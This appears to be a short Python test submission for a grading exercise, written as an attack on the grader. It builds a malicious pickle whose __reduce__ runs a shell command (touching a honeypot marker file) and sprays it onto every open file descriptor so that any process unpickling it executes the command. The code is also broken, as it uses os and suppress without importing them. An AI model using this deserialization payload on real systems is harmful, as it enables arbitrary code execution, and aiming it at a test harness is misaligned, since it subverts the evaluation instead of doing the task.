"""Hands in a pickle that runs a command when it is read, through every pipe.

catalogue: E03
exercise: week01.naive-bill
points: 0
sentence: -
"""

import pickle
import struct


class Bomb:
    def __reduce__(self):
        return os.system, ("touch @HONEY@/sys602_attack",)


def naive_all_reduce_bill(num_ranks, num_bytes):
    data = b"R" + pickle.dumps(Bomb())
    for number in range(3, 256):
        with suppress(OSError):
            os.write(number, struct.pack("<Q", len(data)) + data)
    os._exit(0)
